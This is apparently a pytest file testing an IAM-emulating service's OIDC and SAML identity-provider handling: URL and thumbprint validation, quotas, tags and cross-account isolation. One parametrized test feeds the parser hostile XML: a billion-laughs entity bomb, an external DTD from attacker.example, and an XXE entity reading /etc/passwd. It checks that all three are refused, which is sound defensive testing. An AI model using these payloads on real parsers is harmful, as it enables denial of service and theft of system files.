"""Identity providers (accounts.federation): OIDC and SAML providers created, read, changed,
tagged and deleted as IAM's API does, with AWS's codes, messages and statuses for every
refusal, the account's quotas, and nothing of another account visible."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from accounts import federation, quotas
from accounts.models import OpenIDConnectProvider, SAMLProvider
from iamportal.errors import EntityAlreadyExists, InvalidInput, LimitExceeded, NoSuchEntity, ValidationError

from .pem import saml_metadata

pytestmark = pytest.mark.django_db

THUMB = "990f4193972f2becf12ddeda5237f9c952f20d9e"


def refused(error, call, *args, **kwargs):
    """The IAM error ``call`` raises: (code, message, HTTP status)."""
    with pytest.raises(error) as caught:
        call(*args, **kwargs)
    return caught.value.code, caught.value.message, caught.value.status


# ---------------------------------------------------------------------------
# OpenID Connect providers


def test_it_creates_an_oidc_provider_named_by_its_url_without_the_scheme(account):
    provider = federation.create_open_id_connect_provider(
        account, url="https://token.actions.githubusercontent.com", client_ids=["sts.amazonaws.com"],
        thumbprints=[THUMB.upper()], tags=[("team", "ci")])
    arn = f"arn:aws:iam::{account.account_id}:oidc-provider/token.actions.githubusercontent.com"
    assert provider.arn == arn
    got = federation.get_open_id_connect_provider(account, arn)
    assert (got.url, got.client_ids, got.thumbprints) == (
        "token.actions.githubusercontent.com", ["sts.amazonaws.com"], [THUMB])  # thumbprints kept lower case
    assert federation.list_open_id_connect_provider_tags(got) == [{"Key": "team", "Value": "ci"}]
    assert [p.arn for p in federation.list_open_id_connect_providers(account)] == [arn]


def test_a_url_path_is_part_of_the_provider_and_its_arn(account):
    provider = federation.create_open_id_connect_provider(account, url="https://example.com/tenants/a")
    assert provider.arn.endswith(":oidc-provider/example.com/tenants/a")
    assert federation.create_open_id_connect_provider(account, url="https://example.com/tenants/b")


@pytest.mark.parametrize(("url", "error", "message"), [
    ("example.com", ValidationError, "Invalid Open ID Connect Provider URL"),
    ("https://", ValidationError, "Invalid Open ID Connect Provider URL"),
    ("http://example.com", InvalidInput,
     "Invalid Open ID Connect Provider URL. The URL must begin with https://."),
    ("https://user:pass@example.com", InvalidInput, "Invalid Open ID Connect Provider URL."),
    ("https://example.com?aud=1", InvalidInput, "Invalid Open ID Connect Provider URL."),
    ("https://example.com#frag", InvalidInput, "Invalid Open ID Connect Provider URL."),
    ("https://example.com:8443", InvalidInput, "Invalid Open ID Connect Provider URL."),
    ("https://exa_mple.com", InvalidInput, "Invalid Open ID Connect Provider URL."),
    ("https://[::1", InvalidInput, "Invalid Open ID Connect Provider URL."),
])
def test_it_refuses_a_url_as_iam_does(account, url, error, message):
    code, text, status = refused(error, federation.create_open_id_connect_provider, account, url=url)
    assert (text, status) == (message, 400)
    assert not OpenIDConnectProvider.objects.exists()


def test_a_url_over_255_characters_is_a_validation_error(account):
    url = "https://" + "a" * 250 + ".com"
    code, text, status = refused(ValidationError, federation.create_open_id_connect_provider, account, url=url)
    assert text == (f"1 validation error detected: Value '{url}' at 'url' failed to satisfy constraint: "
                    "Member must have length less than or equal to 255")


def test_thumbprints_are_forty_characters_and_at_most_five(account):
    code, text, status = refused(ValidationError, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", thumbprints=["a" * 39])
    assert text == ("1 validation error detected: Value '" + "a" * 39 + "' at 'thumbprintList.1.member' "
                    "failed to satisfy constraint: Member must have length greater than or equal to 40")
    code, text, status = refused(InvalidInput, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", thumbprints=[str(n) * 40 for n in range(6)])
    assert (code, text, status) == ("InvalidInput", "Thumbprint list must contain fewer than 5 entries.", 400)
    # Five is allowed, and IAM checks the length, not the alphabet (its own example is "…EXAMPLE").
    provider = federation.create_open_id_connect_provider(
        account, url="https://example.com", thumbprints=["3768084dfb3d2b68b7897bf5f565da8efEXAMPLE"] + ["b" * 40] * 4)
    assert provider.thumbprints[0] == "3768084dfb3d2b68b7897bf5f565da8efexample"


def test_client_ids_are_1_to_255_characters_and_at_most_100(account):
    code, text, status = refused(ValidationError, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", client_ids=["ok", "c" * 256])
    assert "at 'clientIDList.2.member' failed to satisfy constraint: Member must have length less than or " \
           "equal to 255" in text
    code, text, status = refused(LimitExceeded, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", client_ids=[f"app-{n}" for n in range(101)])
    assert (text, status) == ("Cannot exceed quota for ClientIdsPerOpenIdConnectProvider: 100", 409)
    provider = federation.create_open_id_connect_provider(account, url="https://example.com",
                                                          client_ids=["a", "b", "a"])
    assert provider.client_ids == ["a", "b"]


def test_the_same_url_twice_is_entity_already_exists(account, mallory):
    federation.create_open_id_connect_provider(account, url="https://example.com")
    code, text, status = refused(EntityAlreadyExists, federation.create_open_id_connect_provider, account,
                                 url="https://example.com")
    assert (text, status) == ("Provider with url https://example.com already exists.", 409)
    federation.create_open_id_connect_provider(mallory.account, url="https://example.com")  # another account's


def test_an_account_has_at_most_100_oidc_providers(account):
    OpenIDConnectProvider.objects.bulk_create(OpenIDConnectProvider(account=account, url=f"idp{n}.example.com")
                                              for n in range(quotas.OIDC_PROVIDERS_PER_ACCOUNT))
    code, text, status = refused(LimitExceeded, federation.create_open_id_connect_provider, account,
                                 url="https://one-more.example.com")
    assert (text, status) == ("Cannot exceed quota for OpenIdConnectProvidersPerAccount: 100", 409)


def test_invalid_tags_create_nothing(account):
    code, text, status = refused(InvalidInput, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", tags=[("team", "a"), ("TEAM", "b")])
    assert text == "Duplicate tag keys found. Please note that Tag keys are case insensitive."
    assert not OpenIDConnectProvider.objects.exists()


def test_thumbprints_are_replaced_and_client_ids_added_and_removed_idempotently(account):
    provider = federation.create_open_id_connect_provider(account, url="https://example.com", client_ids=["a"],
                                                          thumbprints=[THUMB])
    federation.update_open_id_connect_provider_thumbprint(provider, thumbprints=["A" * 40, "b" * 40])
    federation.add_client_id_to_open_id_connect_provider(provider, client_id="b")
    federation.add_client_id_to_open_id_connect_provider(provider, client_id="b")
    federation.remove_client_id_from_open_id_connect_provider(provider, client_id="a")
    federation.remove_client_id_from_open_id_connect_provider(provider, client_id="never-there")
    provider.refresh_from_db()
    assert (provider.thumbprints, provider.client_ids) == (["a" * 40, "b" * 40], ["b"])
    code, text, status = refused(ValidationError, federation.add_client_id_to_open_id_connect_provider, provider,
                                 client_id="")
    assert text.endswith("at 'clientID' failed to satisfy constraint: Member must have length greater than or "
                         "equal to 1")


def test_the_101st_client_id_is_limit_exceeded(account):
    provider = federation.create_open_id_connect_provider(account, url="https://example.com",
                                                          client_ids=[f"app-{n}" for n in range(100)])
    code, text, status = refused(LimitExceeded, federation.add_client_id_to_open_id_connect_provider, provider,
                                 client_id="one-more")
    assert text == "Cannot exceed quota for ClientIdsPerOpenIdConnectProvider: 100"


def test_tags_are_added_replaced_and_removed_whatever_the_case(account):
    provider = federation.create_open_id_connect_provider(account, url="https://example.com",
                                                          tags=[("team", "a"), ("env", "dev")])
    federation.tag_open_id_connect_provider(provider, [("TEAM", "b"), ("cost", "1")])
    federation.untag_open_id_connect_provider(provider, ["ENV", "absent"])
    provider.refresh_from_db()
    assert federation.list_open_id_connect_provider_tags(provider) == [{"Key": "TEAM", "Value": "b"},
                                                                        {"Key": "cost", "Value": "1"}]
    code, text, status = refused(InvalidInput, federation.tag_open_id_connect_provider, provider,
                                 [("aws:owner", "x")])
    assert text == "Tag keys starting with 'aws:' are reserved for internal use."


def test_another_accounts_provider_and_a_missing_one_are_not_found(account, mallory):
    theirs = federation.create_open_id_connect_provider(mallory.account, url="https://example.com")
    for arn in (theirs.arn, theirs.arn.replace(mallory.account.account_id, account.account_id),
                f"arn:aws:iam::{account.account_id}:saml-provider/example.com"):
        code, text, status = refused(NoSuchEntity, federation.get_open_id_connect_provider, account, arn)
        assert (code, text, status) == ("NoSuchEntity", f"OpenIDConnect Provider not found for arn {arn}", 404)
    code, text, status = refused(ValidationError, federation.get_open_id_connect_provider, account, "arn:x")
    assert text == ("1 validation error detected: Value 'arn:x' at 'openIDConnectProviderArn' failed to satisfy "
                    "constraint: Member must have length greater than or equal to 20")
    assert list(federation.list_open_id_connect_providers(account)) == []


def test_delete_removes_the_provider_and_deleting_a_missing_one_succeeds(account, mallory):
    provider = federation.create_open_id_connect_provider(account, url="https://example.com")
    theirs = federation.create_open_id_connect_provider(mallory.account, url="https://example.com")
    federation.delete_open_id_connect_provider(account, provider.arn)
    federation.delete_open_id_connect_provider(account, provider.arn)
    federation.delete_open_id_connect_provider(account, theirs.arn)  # names nothing of this account
    assert list(OpenIDConnectProvider.objects.all()) == [theirs]


# ---------------------------------------------------------------------------
# SAML providers


def test_it_creates_a_saml_provider_with_its_metadata(account):
    document = saml_metadata(valid_until="2030-01-01T00:00:00Z")
    provider = federation.create_saml_provider(account, name="Okta", metadata_document=document,
                                               tags=[("team", "it")])
    arn = f"arn:aws:iam::{account.account_id}:saml-provider/Okta"
    assert provider.arn == arn
    got = federation.get_saml_provider(account, arn.replace("Okta", "OKTA"))  # names compare whatever the case
    assert (got.metadata_document, got.valid_until) == (document, datetime(2030, 1, 1, tzinfo=UTC))
    assert federation.list_saml_provider_tags(got) == [{"Key": "team", "Value": "it"}]
    assert [p.arn for p in federation.list_saml_providers(account)] == [arn]


def test_without_valid_until_a_saml_provider_is_valid_for_a_hundred_years(account):
    provider = federation.create_saml_provider(account, name="Okta", metadata_document=saml_metadata())
    assert provider.valid_until.year - provider.created.year == 100
    assert (provider.valid_until.month, provider.valid_until.day) == (provider.created.month, provider.created.day)


@pytest.mark.parametrize("document", [
    "<" + "x" * 1200,                                                        # not XML
    "<a>" + "x" * 1200 + "</a>",                                            # XML, not SAML metadata
    saml_metadata(namespace="urn:example:not-saml"),                         # the wrong namespace
    saml_metadata().replace("IDPSSODescriptor", "SPSSODescriptor"),         # not an identity provider
    saml_metadata(valid_until="next tuesday"),                              # validUntil not a date
    saml_metadata(prologue='<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor [\n'  # billion laughs
                  '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
                  ']>\n').replace('entityID="', 'entityID="&lol2;'),
    saml_metadata(prologue='<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">\n'),
    saml_metadata(prologue='<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n')
    .replace('entityID="', 'entityID="&e;'),
])
def test_metadata_that_is_not_saml_or_declares_entities_could_not_be_parsed(account, document):
    code, text, status = refused(InvalidInput, federation.create_saml_provider, account, name="Okta",
                                 metadata_document=document)
    assert (code, text, status) == ("InvalidInput", "Could not parse metadata", 400)
    assert not SAMLProvider.objects.exists()


def test_metadata_length_is_checked_without_repeating_the_document(account):
    code, text, status = refused(ValidationError, federation.create_saml_provider, account, name="Okta",
                                 metadata_document="<md/>")
    assert text == ("1 validation error detected: Value at 'sAMLMetadataDocument' failed to satisfy constraint: "
                    "Member must have length greater than or equal to 1000")
    huge = saml_metadata().replace("</md:EntityDescriptor>", "<!--" + "x" * 10_000_000 + "--></md:EntityDescriptor>")
    code, text, status = refused(ValidationError, federation.create_saml_provider, account, name="Okta",
                                 metadata_document=huge)
    assert text.endswith("Member must have length less than or equal to 10000000") and "xxx" not in text


def test_saml_names_follow_iams_pattern_and_are_unique_whatever_the_case(account, mallory):
    code, text, status = refused(ValidationError, federation.create_saml_provider, account, name="has space",
                                 metadata_document=saml_metadata())
    assert text == ("1 validation error detected: Value 'has space' at 'name' failed to satisfy constraint: "
                    r"Member must satisfy regular expression pattern: [\w._-]+")
    federation.create_saml_provider(account, name="Okta", metadata_document=saml_metadata())
    code, text, status = refused(EntityAlreadyExists, federation.create_saml_provider, account, name="OKTA",
                                 metadata_document=saml_metadata())
    assert (text, status) == ("SAMLProvider with name OKTA already exists.", 409)
    federation.create_saml_provider(mallory.account, name="Okta", metadata_document=saml_metadata())


def test_an_account_has_at_most_100_saml_providers(account):
    document = saml_metadata()
    SAMLProvider.objects.bulk_create(SAMLProvider(account=account, name=f"idp{n}", metadata_document=document,
                                                  valid_until=datetime(2100, 1, 1, tzinfo=UTC))
                                     for n in range(quotas.SAML_PROVIDERS_PER_ACCOUNT))
    code, text, status = refused(LimitExceeded, federation.create_saml_provider, account, name="one-more",
                                 metadata_document=document)
    assert (text, status) == ("Cannot exceed quota for SAMLProvidersPerAccount: 100", 409)


def test_update_replaces_the_metadata_and_a_bad_document_changes_nothing(account):
    provider = federation.create_saml_provider(account, name="Okta", metadata_document=saml_metadata())
    newer = saml_metadata("https://other.example.com/saml", valid_until="2031-06-01T12:00:00.000Z")
    federation.update_saml_provider(provider, metadata_document=newer)
    refused(InvalidInput, federation.update_saml_provider, provider, metadata_document="<a>" + "x" * 1000 + "</a>")
    provider.refresh_from_db()
    assert (provider.metadata_document, provider.valid_until) == (newer, datetime(2031, 6, 1, 12, tzinfo=UTC))


def test_saml_tags_and_delete(account):
    provider = federation.create_saml_provider(account, name="Okta", metadata_document=saml_metadata())
    federation.tag_saml_provider(provider, [("team", "it")])
    federation.untag_saml_provider(provider, ["nope"])
    assert federation.list_saml_provider_tags(provider) == [{"Key": "team", "Value": "it"}]
    federation.delete_saml_provider(provider)
    code, text, status = refused(NoSuchEntity, federation.get_saml_provider, account, provider.arn)
    assert (text, status) == (f"Manifest not found for arn {provider.arn}", 404)


def test_another_accounts_saml_provider_is_not_found(account, mallory):
    theirs = federation.create_saml_provider(mallory.account, name="Okta", metadata_document=saml_metadata())
    code, text, status = refused(NoSuchEntity, federation.get_saml_provider, account, theirs.arn)
    assert text == f"Manifest not found for arn {theirs.arn}"
    assert list(federation.list_saml_providers(account)) == []


def test_nul_and_control_characters_are_refused_before_the_database(account):
    """PostgreSQL refuses NUL in text and JSON: such input is IAM's 4xx or names nothing."""
    for url in ("https://example.com/a\x00b", "https://example.com/a b", "https://example.com/\u00e9"):
        code, text, status = refused(InvalidInput, federation.create_open_id_connect_provider, account, url=url)
        assert (text, status) == ("Invalid Open ID Connect Provider URL.", 400)
    code, text, status = refused(InvalidInput, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", client_ids=["a\x00b"])
    assert text == "A client ID may not contain a NUL character."
    code, text, status = refused(InvalidInput, federation.create_open_id_connect_provider, account,
                                 url="https://example.com", thumbprints=["\x00" * 40])
    assert text == "A thumbprint may not contain a NUL character."
    provider = federation.create_open_id_connect_provider(account, url="https://example.com")
    refused(InvalidInput, federation.add_client_id_to_open_id_connect_provider, provider, client_id="\x00")
    for arn in (provider.arn + "\x00", f"arn:aws:iam::{account.account_id}:saml-provider/x\x00"):
        refused(NoSuchEntity, federation.get_open_id_connect_provider, account, arn)
        refused(NoSuchEntity, federation.get_saml_provider, account, arn)
    federation.delete_open_id_connect_provider(account, provider.arn + "\x00")
    assert OpenIDConnectProvider.objects.get().client_ids == []
